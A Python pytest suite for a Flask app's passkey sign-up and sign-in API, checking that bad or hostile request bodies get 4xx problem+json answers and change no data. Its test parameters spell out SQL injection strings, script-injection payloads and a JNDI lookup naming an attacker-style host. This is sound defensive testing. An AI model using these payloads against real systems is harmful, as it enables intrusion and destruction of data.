"""Bad input to the JSON endpoints: always a clear 4xx problem+json, never a 500, no change.

Issue 3 item 9 and issue 9 item 7. Each passkey ceremony endpoint gets malformed JSON,
JSON that is not an object, the wrong Content-Type, invalid UTF-8, an empty body and
hostile strings. Every answer is an RFC 9457 ``application/problem+json`` 4xx and no
account data changes. Then every other ``/api/`` endpoint the app has gets the same
treatment, so a new endpoint cannot forget it.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from flask import Flask
from werkzeug.test import TestResponse

from tests.conftest import Browser
from tests.functional.passkey_support import (
    ADD_OPTIONS,
    ADD_VERIFY,
    SIGN_IN_OPTIONS,
    SIGN_IN_VERIFY,
    SIGN_UP_OPTIONS,
    SIGN_UP_VERIFY,
    Account,
    Watch,
    assert_problem,
    assert_refused,
    sign_up,
)
from tests.support.authenticator import SoftwareAuthenticator

PASSKEY_ENDPOINTS = [
    SIGN_UP_OPTIONS,
    SIGN_UP_VERIFY,
    SIGN_IN_OPTIONS,
    SIGN_IN_VERIFY,
    ADD_OPTIONS,
    ADD_VERIFY,
]

#: (content type, raw body, expected status) that no JSON endpoint may accept.
BAD_BODIES: dict[str, tuple[str, bytes, int]] = {
    "malformed-json": ("application/json", b'{"consent": true', 400),
    "trailing-garbage": ("application/json", b'{"consent": true} x', 400),
    "single-quotes": ("application/json", b"{'consent': true}", 400),
    "array": ("application/json", b"[]", 400),
    "string": ("application/json", b'"consent"', 400),
    "number": ("application/json", b"42", 400),
    "null": ("application/json", b"null", 400),
    "true": ("application/json", b"true", 400),
    "invalid-utf8": ("application/json", b'{"consent": "\xff\xfe"}', 400),
    "utf16": ("application/json", '{"consent": true}'.encode("utf-16"), 400),
    "empty": ("application/json", b"", 400),
    "deep-nesting": ("application/json", b"[" * 30_000 + b"]" * 30_000, 400),
    "deeply-nested-object": ("application/json", b'{"a":' * 10_000 + b"1" + b"}" * 10_000, 400),
    # Python refuses to convert integers of more than 4300 digits (a ValueError).
    "huge-integer": ("application/json", b'{"consent": ' + b"1" * 5000 + b"}", 400),
    "over-the-size-cap": ("application/json", b'{"a": "' + b"x" * 70_000 + b'"}', 413),
    "text-plain": ("text/plain", b'{"consent": true}', 415),
    "form": ("application/x-www-form-urlencoded", b"consent=true", 415),
    "multipart": ("multipart/form-data; boundary=x", b"--x--\r\n", 415),
    "no-content-type": ("", b'{"consent": true}', 415),
    "json-lookalike": ("application/jsonp", b'{"consent": true}', 415),
}


@pytest.fixture
def alice(app: Flask, browser: Browser, authenticator: SoftwareAuthenticator) -> Account:
    """Alice, signed in just now (so the add-passkey endpoints reach their body)."""
    account = sign_up(app, browser, authenticator, "alice")
    assert browser.sign_in_with_passkey(authenticator).status_code == 200
    return account


def post_raw(browser: Browser, url: str, content_type: str, body: bytes) -> TestResponse:
    headers = {"X-CSRFToken": browser.csrf}
    if content_type:
        headers["Content-Type"] = content_type
    return browser.client.post(url, data=body, headers=headers)


@pytest.mark.parametrize("case", list(BAD_BODIES))
def test_passkey_endpoints_refuse_a_bad_body_with_a_problem(
    app: Flask, monkeypatch: pytest.MonkeyPatch, alice: Account, browser: Browser, case: str
) -> None:
    content_type, body, status = BAD_BODIES[case]
    watch = Watch(app, monkeypatch)
    for url in PASSKEY_ENDPOINTS:
        with watch.attempt() as attempt:
            response = post_raw(browser, url, content_type, body)
        problem = assert_problem(response, status)
        assert set(problem) <= {"type", "title", "status", "detail", "field"}, url
        assert attempt.audit == [], url


def test_problem_detail_never_echoes_the_request(alice: Account, browser: Browser) -> None:
    marker = "<script>alert('x')</script>"
    response = post_raw(browser, SIGN_IN_VERIFY, "application/json", f'{{"{marker}"'.encode())
    assert marker not in response.get_data(as_text=True)


@pytest.mark.parametrize(
    "value",
    [
        "' OR '1'='1",
        "'; DROP TABLE passkeys; --",
        "<img src=x onerror=alert(1)>",
        "${jndi:ldap://evil.example/a}",
        "\u0000",
        "\u202e",
        "a" * 10_000,
    ],
    ids=["sql", "sql-drop", "html", "jndi", "nul", "rlo", "long"],
)
def test_hostile_strings_in_an_assertion_are_refused(
    app: Flask,
    monkeypatch: pytest.MonkeyPatch,
    alice: Account,
    new_browser: Callable[[], Browser],
    value: str,
) -> None:
    watch = Watch(app, monkeypatch)
    for where in ("id", "type", "userHandle", "clientExtensionResults"):
        browser = new_browser()
        credential: dict[str, Any] = alice.authenticator.get(browser.sign_in_options())
        if where == "id":
            credential.update(id=value, rawId=value)
        elif where == "userHandle":
            credential["response"] = {**credential["response"], "userHandle": value}
        else:
            credential[where] = value
        with watch.attempt():
            response = browser.post_json(SIGN_IN_VERIFY, credential)
        assert_refused(response)


@pytest.mark.parametrize(
    "username",
    [
        "",
        "a" * 10_000,
        "ali\u0000ce",
        "\u0430lice",
        "alice'; DROP TABLE users; --",
        "<script>alert(1)</script>",
        "\u202ealice",
    ],
    ids=["empty", "long", "nul", "cyrillic-a", "sql", "html", "rlo"],
)
def test_hostile_usernames_are_refused_on_the_form_and_change_nothing(
    app: Flask, monkeypatch: pytest.MonkeyPatch, alice: Account, username: str
) -> None:
    browser = Browser(app.test_client())
    watch = Watch(app, monkeypatch)
    with watch.attempt():
        response = browser.choose_username(username)
    assert response.status_code == 400
    assert response.mimetype == "text/html"
    page = response.get_data(as_text=True)
    assert "<script>alert(1)</script>" not in page  # escaped if shown at all


# --- every JSON endpoint the app has -------------------------------------------------------


def api_post_urls(app: Flask) -> list[str]:
    adapter = app.url_map.bind("localhost")
    urls = []
    for rule in app.url_map.iter_rules():
        if rule.rule.startswith("/api/") and "POST" in (rule.methods or set()):
            urls.append(adapter.build(rule.endpoint, dict.fromkeys(rule.arguments, 1)))
    return sorted(urls)


def test_the_passkey_endpoints_are_among_the_api_routes(app: Flask) -> None:
    assert set(PASSKEY_ENDPOINTS) <= set(api_post_urls(app))


@pytest.mark.parametrize("case", ["malformed-json", "array", "invalid-utf8", "empty", "text-plain"])
def test_every_api_endpoint_refuses_a_bad_body_with_a_problem(
    app: Flask, monkeypatch: pytest.MonkeyPatch, alice: Account, browser: Browser, case: str
) -> None:
    content_type, body, _status = BAD_BODIES[case]
    watch = Watch(app, monkeypatch)
    for url in api_post_urls(app):
        with watch.attempt():
            response = post_raw(browser, url, content_type, body)
        assert 400 <= response.status_code < 500, (url, response.status_code)
        assert response.mimetype == "application/problem+json", url
